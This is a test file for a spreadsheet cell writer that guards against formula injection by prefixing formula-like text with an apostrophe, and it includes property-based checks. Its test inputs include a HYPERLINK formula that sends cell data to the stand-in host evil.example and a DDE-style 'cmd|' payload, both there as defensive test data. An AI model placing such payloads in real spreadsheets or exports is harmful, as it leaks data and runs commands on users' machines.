import fc from 'fast-check';
import { expect, test } from 'vitest';
import { readPlainCell, writePlainCell } from './plain-cell.ts';

test.each([
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  '+1',
  '-1',
  '@SUM(A1)',
  ' =1',
  '\u00a0=1',
  '＝1',
  '＋1',
  '－1',
  '＠x',
  '- buy nails',
  '\tx',
  '\rx',
  "'=1",
])('CH-408 writes %j as text, and reads it back unchanged', (text) => {
  expect(writePlainCell(text)).toBe(`'${text}`);
  expect(readPlainCell(writePlainCell(text))).toBe(text);
});

test.each([
  ['x;=1+cmd|A0', "x;'=1+cmd|A0"],
  ['a,=1', "a,'=1"],
  ['a|@x', "a|'@x"],
  ['a\t=1', "a\t'=1"],
  ['\t=1', "'\t'=1"],
  ["''\t=1", "'''\t'=1"],
  ['\n=1', "\n'=1"],
  ['- a\r\n- b', "'- a\r\n'- b"],
  ['say "=1"', `say "'=1"`],
  ['a;; ＝1', "a;;' ＝1"],
  ["a;'=1", "a;''=1"],
  [';=;=', ";'=;'="],
])(
  'CH-408 writes %j as %j, and reads it back: no part that another separator cuts off is a formula',
  (text, cell) => {
    expect(writePlainCell(text)).toBe(cell);
    expect(readPlainCell(cell)).toBe(text);
  },
);

test.each([
  '',
  'Brief',
  'a; b',
  'a, b',
  'say "no"',
  "rock ;'n' roll",
  '1-2',
  "'",
  "'tis",
  'a=b',
  '50%',
  '2027-01-04',
  '– dash',
])('CH-408 %j stays as it is', (text) => {
  expect(writePlainCell(text)).toBe(text);
  expect(readPlainCell(text)).toBe(text);
});

test('CH-408 writes no text as a formula, wherever its cell is cut, and reads it back', () => {
  const text = fc.string({ unit: fc.constantFrom(...`=+-@＝'",;|\t\r\n ax`), maxLength: 12 });
  fc.assert(
    fc.property(fc.oneof(text, fc.string({ unit: 'binary', maxLength: 5 })), (title) => {
      const cell = writePlainCell(title);
      for (const part of cell.split(/[,;|"\t\r\n]/)) expect(part.trimStart()).not.toMatch(/^[=+\-@＝＋－＠]/);
      expect(readPlainCell(cell)).toBe(title);
    }),
    { numRuns: 5_000 },
  );
});
